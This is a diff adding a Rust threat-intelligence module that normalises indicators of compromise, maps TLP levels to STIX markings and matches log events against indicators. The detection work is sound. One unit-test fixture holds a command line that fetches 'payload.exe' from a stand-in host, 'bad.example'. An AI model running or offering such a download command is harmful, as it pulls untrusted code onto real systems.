@@ -1,0 +1,541 @@
+//! Threat intelligence: indicators of compromise (addresses and networks, domains, URLs,
+//! file hashes, e-mail addresses) read from STIX 2.1 bundles, MISP exports and free text,
+//! and the set every event is checked against.
+//!
+//! Matching looks at the lower-case text of every value of an event, whole and split into
+//! tokens, so an indicator is found wherever a log shipper put it: `destination.ip`, a
+//! Sysmon `Hashes` list, a proxy URL or a command line.
+
+pub mod feed;
+pub mod pattern;
+
+use crate::Event;
+use std::collections::HashMap;
+use std::net::{Ipv4Addr, Ipv6Addr};
+
+type Hasher = foldhash::fast::RandomState;
+
+/// What an indicator's value is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
+pub enum Kind {
+    Ipv4,
+    Ipv6,
+    Domain,
+    Url,
+    Md5,
+    Sha1,
+    Sha256,
+    Email,
+}
+
+impl Kind {
+    pub const ALL: [Kind; 8] = [Kind::Ipv4, Kind::Ipv6, Kind::Domain, Kind::Url, Kind::Md5, Kind::Sha1, Kind::Sha256, Kind::Email];
+
+    pub fn code(self) -> &'static str {
+        match self {
+            Kind::Ipv4 => "ipv4",
+            Kind::Ipv6 => "ipv6",
+            Kind::Domain => "domain",
+            Kind::Url => "url",
+            Kind::Md5 => "md5",
+            Kind::Sha1 => "sha1",
+            Kind::Sha256 => "sha256",
+            Kind::Email => "email",
+        }
+    }
+
+    pub fn parse(code: &str) -> Option<Kind> {
+        Kind::ALL.into_iter().find(|k| k.code() == code)
+    }
+}
+
+/// The Traffic Light Protocol: how far an indicator, and what is learnt from it, may be
+/// shared. Ordered from the widest to the narrowest.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
+pub enum Tlp {
+    Clear,
+    Green,
+    Amber,
+    AmberStrict,
+    Red,
+}
+
+impl Tlp {
+    pub const ALL: [Tlp; 5] = [Tlp::Clear, Tlp::Green, Tlp::Amber, Tlp::AmberStrict, Tlp::Red];
+
+    pub fn code(self) -> &'static str {
+        match self {
+            Tlp::Clear => "clear",
+            Tlp::Green => "green",
+            Tlp::Amber => "amber",
+            Tlp::AmberStrict => "amber+strict",
+            Tlp::Red => "red",
+        }
+    }
+
+    /// From a code or a label as feeds write it: `amber`, `TLP:AMBER`, `tlp:white` (the
+    /// first version's name for clear).
+    pub fn parse(text: &str) -> Option<Tlp> {
+        let t = text.trim().to_ascii_lowercase();
+        let t = t.strip_prefix("tlp:").unwrap_or(&t).trim();
+        match t {
+            "white" | "clear" => Some(Tlp::Clear),
+            "green" => Some(Tlp::Green),
+            "amber" => Some(Tlp::Amber),
+            "amber+strict" | "amber strict" => Some(Tlp::AmberStrict),
+            "red" => Some(Tlp::Red),
+            _ => None,
+        }
+    }
+
+    /// The STIX 2.1 marking definition of the first TLP version, which every STIX reader
+    /// knows by its identifier. Amber+strict has none there; it is marked amber and
+    /// `None` is never shared.
+    pub fn stix_marking(self) -> Option<&'static str> {
+        match self {
+            Tlp::Clear => Some("marking-definition--613f2e26-407d-48c7-9eca-b8e91df99dc9"),
+            Tlp::Green => Some("marking-definition--34098fce-860f-48ae-8e50-ebd3cc5e41da"),
+            Tlp::Amber | Tlp::AmberStrict => Some("marking-definition--f88d31f6-486f-44da-b317-01333bde0b82"),
+            Tlp::Red => Some("marking-definition--5e57c739-391a-4eb3-b6be-7d15ca92d5ed"),
+        }
+    }
+
+    /// The TLP of a STIX marking definition identifier of the first TLP version.
+    pub fn from_stix_marking(id: &str) -> Option<Tlp> {
+        [Tlp::Clear, Tlp::Green, Tlp::Amber, Tlp::Red].into_iter().find(|t| t.stix_marking() == Some(id))
+    }
+}
+
+/// Undoes the usual defanging of shared indicators: `hxxp://`, `example[.]com`,
+/// `user[@]example.com`, `1.2.3[.]4`.
+pub fn refang(text: &str) -> String {
+    let mut t = text.trim().replace("[.]", ".").replace("(.)", ".").replace("{.}", ".").replace("[dot]", ".").replace("[@]", "@").replace("[at]", "@").replace("[:]", ":").replace("[://]", "://");
+    for (from, to) in [("hxxps://", "https://"), ("hxxp://", "http://"), ("hXXps://", "https://"), ("hXXp://", "http://"), ("fxp://", "ftp://")] {
+        if let Some(rest) = t.strip_prefix(from) {
+            t = format!("{to}{rest}");
+        }
+    }
+    t
+}
+
+fn is_hex(t: &str) -> bool {
+    t.bytes().all(|b| b.is_ascii_hexdigit())
+}
+
+fn is_domain(t: &str) -> bool {
+    if t.len() > 253 || !t.contains('.') || t.starts_with('.') || t.ends_with('.') || t.contains("..") {
+        return false;
+    }
+    let tld = t.rsplit('.').next().unwrap_or("");
+    if tld.is_empty() || tld.bytes().all(|b| b.is_ascii_digit()) {
+        return false;
+    }
+    t.split('.').all(|l| !l.is_empty() && l.len() <= 63 && !l.starts_with('-') && !l.ends_with('-') && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_'))
+}
+
+/// An address or network in canonical form: the address, or `network/prefix` with the
+/// host bits cleared (`/32` and `/128` are written as the bare address).
+fn normalize_ip(text: &str) -> Option<(Kind, String)> {
+    let (addr, prefix) = match text.split_once('/') {
+        Some((a, p)) => (a, Some(p.parse::<u8>().ok()?)),
+        None => (text, None),
+    };
+    if let Ok(v4) = addr.parse::<Ipv4Addr>() {
+        let p = prefix.unwrap_or(32);
+        if p > 32 {
+            return None;
+        }
+        let net = Ipv4Addr::from(u32::from(v4) & mask32(p));
+        return Some((Kind::Ipv4, if p == 32 { net.to_string() } else { format!("{net}/{p}") }));
+    }
+    if let Ok(v6) = addr.parse::<Ipv6Addr>() {
+        let p = prefix.unwrap_or(128);
+        if p > 128 {
+            return None;
+        }
+        let net = Ipv6Addr::from(u128::from(v6) & mask128(p));
+        return Some((Kind::Ipv6, if p == 128 { net.to_string() } else { format!("{net}/{p}") }));
+    }
+    None
+}
+
+fn mask32(p: u8) -> u32 {
+    if p == 0 { 0 } else { u32::MAX << (32 - p as u32) }
+}
+
+fn mask128(p: u8) -> u128 {
+    if p == 0 { 0 } else { u128::MAX << (128 - p as u32) }
+}
+
+/// The canonical value of an indicator of `kind`, or why `text` is not one.
+pub fn normalize(kind: Kind, text: &str) -> Result<String, String> {
+    let t = refang(text).to_lowercase();
+    let t = t.trim();
+    if t.is_empty() {
+        return Err("the value is empty".into());
+    }
+    let hash = |len: usize, name: &str| if t.len() == len && is_hex(t) { Ok(t.to_string()) } else { Err(format!("{t:?} is not an {name} hash ({len} hexadecimal digits)")) };
+    match kind {
+        Kind::Ipv4 | Kind::Ipv6 => match normalize_ip(t) {
+            Some((k, v)) if k == kind => Ok(v),
+            _ => Err(format!("{t:?} is not an {} address or network", if kind == Kind::Ipv4 { "IPv4" } else { "IPv6" })),
+        },
+        Kind::Domain => {
+            let d = t.trim_end_matches('.');
+            if is_domain(d) { Ok(d.to_string()) } else { Err(format!("{t:?} is not a domain name")) }
+        }
+        Kind::Url => match url_host(t) {
+            Some(_) => Ok(trim_url(t).to_string()),
+            None => Err(format!("{t:?} is not a URL with a scheme and a host")),
+        },
+        Kind::Md5 => hash(32, "MD5"),
+        Kind::Sha1 => hash(40, "SHA-1"),
+        Kind::Sha256 => hash(64, "SHA-256"),
+        Kind::Email => match t.split_once('@') {
+            Some((local, dom)) if !local.is_empty() && !local.contains(char::is_whitespace) && is_domain(dom) => Ok(t.to_string()),
+            _ => Err(format!("{t:?} is not an e-mail address")),
+        },
+    }
+}
+
+/// What kind of indicator `text` looks like, with its canonical value (free-text feeds).
+pub fn classify(text: &str) -> Option<(Kind, String)> {
+    let t = refang(text).to_lowercase();
+    let t = t.trim().trim_matches(|c: char| matches!(c, '"' | '\'' | ',' | ';' | '<' | '>' | '(' | ')'));
+    if t.is_empty() {
+        return None;
+    }
+    if let Some(ip) = normalize_ip(t) {
+        return Some(ip);
+    }
+    if is_hex(t) {
+        let kind = match t.len() {
+            32 => Kind::Md5,
+            40 => Kind::Sha1,
+            64 => Kind::Sha256,
+            _ => return None,
+        };
+        return Some((kind, t.to_string()));
+    }
+    if t.contains("://") {
+        return normalize(Kind::Url, t).ok().map(|v| (Kind::Url, v));
+    }
+    if t.contains('@') {
+        return normalize(Kind::Email, t).ok().map(|v| (Kind::Email, v));
+    }
+    normalize(Kind::Domain, t).ok().map(|v| (Kind::Domain, v))
+}
+
+/// A URL without the slash that ends an empty path (`http://a.example/` is `http://a.example`).
+fn trim_url(u: &str) -> &str {
+    match url_host_span(u) {
+        Some((_, end)) if &u[end..] == "/" => &u[..end],
+        _ => u,
+    }
+}
+
+/// The host of a URL (`scheme://[user@]host[:port]/…`), lower case as given.
+fn url_host(u: &str) -> Option<&str> {
+    url_host_span(u).map(|(s, e)| &u[s..e])
+}
+
+fn url_host_span(u: &str) -> Option<(usize, usize)> {
+    let scheme_end = u.find("://")?;
+    let scheme = &u[..scheme_end];
+    if scheme.is_empty() || !scheme.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'-' || b == b'.') {
+        return None;
+    }
+    let start = scheme_end + 3;
+    let rest = &u[start..];
+    let auth_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
+    let auth = &rest[..auth_end];
+    let host_start = auth.rfind('@').map(|i| i + 1).unwrap_or(0);
+    let host = &auth[host_start..];
+    let host_len = if host.starts_with('[') { host.find(']').map(|i| i + 1)? } else { host.find(':').unwrap_or(host.len()) };
+    if host_len == 0 {
+        return None;
+    }
+    Some((start + host_start, start + host_start + host_len))
+}
+
+/// All valid indicators, ready to check events against. Each indicator carries the
+/// caller's number for it; a match answers those numbers.
+#[derive(Debug, Default)]
+pub struct IndicatorSet {
+    /// Exact values: single addresses, domains, URLs, hashes, e-mail addresses.
+    exact: HashMap<Box<str>, Vec<u32>, Hasher>,
+    /// Networks by prefix length, longest first.
+    v4: Vec<(u8, HashMap<u32, Vec<u32>, Hasher>)>,
+    v6: Vec<(u8, HashMap<u128, Vec<u32>, Hasher>)>,
+    /// Whether any domain indicator exists (parents of hosts are only looked up then).
+    domains: bool,
+    len: usize,
+}
+
+/// Bytes that end a token inside a longer value.
+fn is_separator(c: char) -> bool {
+    c.is_whitespace() || matches!(c, ',' | ';' | '=' | '"' | '\'' | '(' | ')' | '<' | '>' | '|' | '[' | ']' | '{' | '}' | '\\' | '`')
+}
+
+/// Longest value looked at as a whole, and longest token.
+const MAX_VALUE: usize = 8192;
+
+impl IndicatorSet {
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    /// Number of indicators added.
+    pub fn len(&self) -> usize {
+        self.len
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.len == 0
+    }
+
+    /// Adds an indicator in canonical form (see [`normalize`]). A value that is not
+    /// canonical for its kind is refused with the reason.
+    pub fn insert(&mut self, kind: Kind, value: &str, id: u32) -> Result<(), String> {
+        let canonical = normalize(kind, value)?;
+        self.len += 1;
+        match kind {
+            Kind::Ipv4 if canonical.contains('/') => {
+                let (a, p) = canonical.split_once('/').unwrap_or_default();
+                let (a, p): (Ipv4Addr, u8) = (a.parse().map_err(|_| "bad network")?, p.parse().map_err(|_| "bad prefix")?);
+                let slot = match self.v4.iter().position(|(q, _)| *q == p) {
+                    Some(i) => i,
+                    None => {
+                        self.v4.push((p, HashMap::default()));
+                        self.v4.sort_by(|x, y| y.0.cmp(&x.0));
+                        self.v4.iter().position(|(q, _)| *q == p).unwrap_or(0)
+                    }
+                };
+                self.v4[slot].1.entry(u32::from(a)).or_default().push(id);
+            }
+            Kind::Ipv6 if canonical.contains('/') => {
+                let (a, p) = canonical.split_once('/').unwrap_or_default();
+                let (a, p): (Ipv6Addr, u8) = (a.parse().map_err(|_| "bad network")?, p.parse().map_err(|_| "bad prefix")?);
+                let slot = match self.v6.iter().position(|(q, _)| *q == p) {
+                    Some(i) => i,
+                    None => {
+                        self.v6.push((p, HashMap::default()));
+                        self.v6.sort_by(|x, y| y.0.cmp(&x.0));
+                        self.v6.iter().position(|(q, _)| *q == p).unwrap_or(0)
+                    }
+                };
+                self.v6[slot].1.entry(u128::from(a)).or_default().push(id);
+            }
+            _ => {
+                if kind == Kind::Domain {
+                    self.domains = true;
+                }
+                self.exact.entry(canonical.into_boxed_str()).or_default().push(id);
+            }
+        }
+        Ok(())
+    }
+
+    /// Numbers of the indicators found in the event, each once, in no set order.
+    pub fn match_event(&self, e: &Event, out: &mut Vec<u32>) {
+        out.clear();
+        if self.is_empty() {
+            return;
+        }
+        for (_, lower) in e.values_with_lower() {
+            if let Some(t) = lower {
+                self.match_text(t, out);
+            }
+        }
+        out.sort_unstable();
+        out.dedup();
+    }
+
+    /// Adds the numbers of indicators found in one lower-case value (whole or in its
+    /// tokens) to `out`; may add one twice.
+    pub fn match_text(&self, lower: &str, out: &mut Vec<u32>) {
+        let t = lower.trim();
+        if t.len() < 3 || t.len() > MAX_VALUE {
+            return;
+        }
+        if self.token(t, out) || !t.contains(is_separator) {
+            return;
+        }
+        for tok in t.split(is_separator) {
+            if tok.len() >= 3 {
+                self.token(tok, out);
+            }
+        }
+    }
+
+    /// Looks one token up; answers whether it was a whole match of some kind (an
+    /// address, a URL), which makes splitting it pointless.
+    fn token(&self, t: &str, out: &mut Vec<u32>) -> bool {
+        if let Some(ids) = self.exact.get(t) {
+            out.extend_from_slice(ids);
+        }
+        let b = t.as_bytes()[0];
+        if b.is_ascii_digit() || t.contains(':') && !t.contains("://") {
+            if self.ip(t, out) {
+                return true;
+            }
+        }
+        if let Some(host) = url_host(t) {
+            let trimmed = trim_url(t);
+            if trimmed.len() != t.len() {
+                if let Some(ids) = self.exact.get(trimmed) {
+                    out.extend_from_slice(ids);
+                }
+            } else if let Some(ids) = self.exact.get(format!("{t}/").as_str()) {
+                out.extend_from_slice(ids);
+            }
+            let host = host.trim_start_matches('[').trim_end_matches(']');
+            if !self.ip(host, out) {
+                self.domain(host, true, out);
+            }
+            return false;
+        }
+        if let Some((_, dom)) = t.split_once('@') {
+            self.domain(dom, true, out);
+            return false;
+        }
+        self.domain(t, false, out);
+        false
+    }
+
+    /// A domain's parents (`a.b.example.com` is also checked as `b.example.com` and
+    /// `example.com`), and the domain itself when `whole` (it was not looked up as a token).
+    fn domain(&self, host: &str, whole: bool, out: &mut Vec<u32>) {
+        if !self.domains || !host.contains('.') || host.len() > 253 {
+            return;
+        }
+        let mut rest = host.trim_end_matches('.');
+        if whole {
+            if let Some(ids) = self.exact.get(rest) {
+                out.extend_from_slice(ids);
+            }
+        }
+        while let Some(i) = rest.find('.') {
+            rest = &rest[i + 1..];
+            if !rest.contains('.') {
+                break;
+            }
+            if let Some(ids) = self.exact.get(rest) {
+                out.extend_from_slice(ids);
+            }
+        }
+    }
+
+    /// An address (or `address:port`) against the networks; answers whether it was one.
+    fn ip(&self, t: &str, out: &mut Vec<u32>) -> bool {
+        let candidate = match t.rsplit_once(':') {
+            Some((a, port)) if a.contains('.') && port.bytes().all(|b| b.is_ascii_digit()) => a,
+            _ => t,
+        };
+        if let Ok(a) = candidate.parse::<Ipv4Addr>() {
+            if candidate.len() != t.len() {
+                if let Some(ids) = self.exact.get(candidate) {
+                    out.extend_from_slice(ids);
+                }
+            }
+            let a = u32::from(a);
+            for (p, nets) in &self.v4 {
+                if let Some(ids) = nets.get(&(a & mask32(*p))) {
+                    out.extend_from_slice(ids);
+                }
+            }
+            return true;
+        }
+        if t.contains(':') {
+            if let Ok(a) = t.parse::<Ipv6Addr>() {
+                let canonical = a.to_string();
+                if canonical != t {
+                    if let Some(ids) = self.exact.get(canonical.as_str()) {
+                        out.extend_from_slice(ids);
+                    }
+                }
+                let a = u128::from(a);
+                for (p, nets) in &self.v6 {
+                    if let Some(ids) = nets.get(&(a & mask128(*p))) {
+                        out.extend_from_slice(ids);
+                    }
+                }
+                return true;
+            }
+        }
+        false
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn found(set: &IndicatorSet, json: &str) -> Vec<u32> {
+        let e = Event::from_json_str(json).expect("event");
+        let mut out = vec![];
+        set.match_event(&e, &mut out);
+        out
+    }
+
+    #[test]
+    fn values_are_normalized_or_refused_with_a_reason() {
+        assert_eq!(normalize(Kind::Ipv4, "10.1.2.3/8").unwrap(), "10.0.0.0/8");
+        assert_eq!(normalize(Kind::Ipv4, "10.1.2.3/32").unwrap(), "10.1.2.3");
+        assert_eq!(normalize(Kind::Ipv6, "2001:DB8::1/32").unwrap(), "2001:db8::/32");
+        assert!(normalize(Kind::Ipv4, "2001:db8::1").unwrap_err().contains("IPv4"));
+        assert!(normalize(Kind::Ipv4, "10.0.0.0/33").is_err());
+        assert_eq!(normalize(Kind::Domain, "Evil[.]Example.COM.").unwrap(), "evil.example.com");
+        assert!(normalize(Kind::Domain, "1.2.3.4").is_err());
+        assert!(normalize(Kind::Domain, "no_dots").is_err());
+        assert_eq!(normalize(Kind::Url, "hxxp://Evil.example/").unwrap(), "http://evil.example");
+        assert!(normalize(Kind::Url, "evil.example/x").is_err());
+        assert!(normalize(Kind::Md5, "abc").unwrap_err().contains("MD5"));
+        assert_eq!(normalize(Kind::Sha1, &"A".repeat(40)).unwrap(), "a".repeat(40));
+        assert_eq!(normalize(Kind::Email, "Bob[@]evil.example").unwrap(), "bob@evil.example");
+        assert!(normalize(Kind::Email, "bob@").is_err());
+    }
+
+    #[test]
+    fn free_text_is_classified() {
+        assert_eq!(classify("203.0.113.7"), Some((Kind::Ipv4, "203.0.113.7".into())));
+        assert_eq!(classify("198.51.100.0/24"), Some((Kind::Ipv4, "198.51.100.0/24".into())));
+        assert_eq!(classify("evil[.]example"), Some((Kind::Domain, "evil.example".into())));
+        assert_eq!(classify(&"f".repeat(64)).map(|k| k.0), Some(Kind::Sha256));
+        assert_eq!(classify("hxxps://evil.example/a").map(|k| k.0), Some(Kind::Url));
+        assert_eq!(classify("x@evil.example").map(|k| k.0), Some(Kind::Email));
+        assert_eq!(classify("hello"), None);
+        assert_eq!(classify("1.2"), None);
+    }
+
+    #[test]
+    fn events_match_wherever_the_value_is() {
+        let mut s = IndicatorSet::new();
+        s.insert(Kind::Ipv4, "203.0.113.7", 1).unwrap();
+        s.insert(Kind::Ipv4, "198.51.100.0/24", 2).unwrap();
+        s.insert(Kind::Domain, "evil.example", 3).unwrap();
+        s.insert(Kind::Sha256, &"ab".repeat(32), 4).unwrap();
+        s.insert(Kind::Url, "http://bad.example/payload.exe", 5).unwrap();
+        s.insert(Kind::Email, "ceo@phish.example", 6).unwrap();
+        s.insert(Kind::Ipv6, "2001:db8:bad::/48", 7).unwrap();
+        s.insert(Kind::Md5, &"cd".repeat(16), 8).unwrap();
+        assert_eq!(found(&s, r#"{"destination":{"ip":"203.0.113.7"}}"#), [1]);
+        assert_eq!(found(&s, r#"{"DestinationIp":"198.51.100.99"}"#), [2]);
+        assert_eq!(found(&s, r#"{"dst":"198.51.100.99:443"}"#), [2]);
+        assert_eq!(found(&s, r#"{"QueryName":"cdn.Evil.Example"}"#), [3]);
+        assert_eq!(found(&s, r#"{"QueryName":"notevil.example"}"#), Vec::<u32>::new());
+        let hashes = format!(r#"{{"Hashes":"MD5={},SHA256={}"}}"#, "CD".repeat(16), "AB".repeat(32));
+        assert_eq!(found(&s, &hashes), [4, 8]);
+        assert_eq!(found(&s, r#"{"CommandLine":"curl -o x HTTP://bad.example/payload.exe"}"#), [5]);
+        assert_eq!(found(&s, r#"{"url":"https://www.evil.example/login?x=1"}"#), [3]);
+        assert_eq!(found(&s, r#"{"from":"Mallory <ceo@phish.example>"}"#), [6]);
+        assert_eq!(found(&s, r#"{"src":"2001:db8:bad:1::5"}"#), [7]);
+        assert_eq!(found(&s, r#"{"msg":"connection from 203.0.113.8 to 10.0.0.1"}"#), Vec::<u32>::new());
+        assert_eq!(found(&s, r#"{"a":"203.0.113.7","b":"203.0.113.7"}"#), [1], "each indicator once per event");
+    }
+
+    #[test]
+    fn an_empty_set_matches_nothing() {
+        assert!(found(&IndicatorSet::new(), r#"{"ip":"203.0.113.7"}"#).is_empty());
+    }
+}
